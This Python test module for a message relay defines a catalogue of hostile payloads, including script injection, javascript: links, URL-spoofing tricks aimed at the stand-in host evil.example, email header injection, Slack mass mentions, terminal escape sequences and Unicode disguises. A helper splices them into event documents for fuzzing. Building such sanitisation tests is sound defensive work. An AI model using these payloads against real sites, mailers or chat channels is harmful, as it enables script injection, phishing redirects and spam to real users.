"""Payloads of hostile senders for names, messages, errors, links and metadata, and documents that are full of them."""

from collections.abc import Mapping
from copy import deepcopy
from random import Random
from typing import Any

EVIL = "evil.example"  # to which nothing may lead

PAYLOADS: Mapping[str, tuple[str, ...]] = {
    "HTML": (
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "'-alert(1)-'",
        f"<a href=https://{EVIL}/x>click</a>", "</td></table></body><script>1</script>",
        "<style>*{background:url(//evil.example)}</style>", f"<iframe src=//{EVIL}></iframe>",
        f"<form action=//{EVIL}><input name=p></form>", f"<base href=//{EVIL}/>",
        f"<meta http-equiv=refresh content='0;url=//{EVIL}'>", "<!--", "-->", "<![CDATA[", "&lt;script&gt;",
        "&#60;script&#62;", "\" style=\"background:url(//evil.example)", "\" onmouseover=\"alert(1)",
        "<math><mi xlink:href='javascript:1'>", "<title></title><script>1</script>", "{{7*7}}{% raw %}${7*7}",
        "<object data=x>", "\x00<script>", "<\x00script>", "＜script＞",
        "[if mso]><v:fill src=//evil.example><![endif]",
        "</style><script>1</script>",
    ),
    "links": (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>1</script>", f"https://{EVIL}/login",
        f"https://mining.example.com@{EVIL}/", f"https://mining.example.com.{EVIL}/", f"//{EVIL}/",
        f"https:\\\\{EVIL}", f"https://{EVIL}/?x=\"><script>1</script>", "vbscript:x", "file:///etc/passwd",
        f"https://mining.example.com\\@{EVIL}/", f"https://mining.example.com%2F@{EVIL}", f" https://{EVIL}",
        f"https://{EVIL}/\r\nBcc: x", "https://mining.example.com:99999/x",
    ),
    "Slack": (
        "<!channel>", "<!here> <!everyone>", "<!subteam^S0DATATEAM>", "<@U0ANALYST1>", "<#C012AB3CD|general>",
        f"<https://{EVIL}|click>", "*bold* _it_ ~s~ `c`", "```\ncode\n```", "> quoted", ":tada: :warning:",
        "<!date^0^{date}|x>", "@channel @here @data-team", f"<mailto:x@{EVIL}|write>", "&lt;!channel&gt;", "<!channel",
        "!channel>", f"https://{EVIL}",
    ),
    "lines": (
        "\r\nBcc: victim@example.com", "\nSubject: other", "\r\n\r\n<html>", "\r\n.\r\nMAIL FROM:<x>",
        "a\u2028b\u2029c", "\x0b\x0c\x85", "=?utf-8?b?PHNjcmlwdD4=?=", "--=_boundary",
        "\r\n--=_x\r\nContent-Type: text/html\r\n\r\n<b>", "{\"event\": \"relay.started\"}\n{}",
        "relay_events_total{source=\"x\"} 1\n# HELP", "\" } 1\nrelay_up 1",
    ),
    "terminals": (
        "\x1b[31m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x1b[2J\x1b[H",
        "\x9b31m", "\x90q\x9c", "\x08\x08\x7f", "\x07", "\r overwritten", "\x1bc", "\x1b[6n", "[bold red]markup[/]",
        "[link=https://evil.example]x[/link]", "\x00", "\x0e\x0f",
    ),
    "disguises": (
        "\u202etxt.exe\u202c", "\u2066\u2067\u2069", "\u200b\u200c\ufeff", "\U000e0041\U000e007f", "\u061c\u180e",
        "аррӏе.com", "\ufff9\ufffa\ufffb", "\u3164\u115f", "👩‍🔬" * 30, "Z\u0334\u0320\u0323" * 40, "W" * 400,
        "\u0627\u0644",
    ),
}  # fmt: skip
# What says which event it is. Spoilt too, but seldom: most of such documents are refused.
IDENTITY = {"event", "eventId", "timestamp", "status", "priority", "operationId", "batchId", "tenantId", "projectId"}
SELDOM = 0.01
LONGEST = 900


def payload(dice: Random) -> str:
    """One or a few, one after the other."""
    return "".join(dice.choice(PAYLOADS[dice.choice((*PAYLOADS,))]) for _ in range(dice.choice((1, 1, 2, 4))))


def poisoned(dice: Random, body: Mapping[str, Any], share: float = 0.6) -> dict[str, Any]:
    """The document with hostile text before, behind or instead of most of its texts, and in keys that are its own."""

    def walk(value: Any, key: str) -> Any:
        if isinstance(value, dict):
            walked = {name: walk(item, name) for name, item in value.items()}
            return walked | ({payload(dice)[:100]: payload(dice)} if dice.random() < share / 10 else {})
        if isinstance(value, list):
            return [walk(item, key) for item in value]
        if not isinstance(value, str) or dice.random() > (SELDOM if key in IDENTITY else share):
            return value
        new = payload(dice)
        return dice.choice((new, f"{new}{value}", f"{value}{new}", f"{value[:3]}{new}{value[3:]}"))[:LONGEST]

    made: dict[str, Any] = walk(deepcopy(dict(body)), "")
    return made
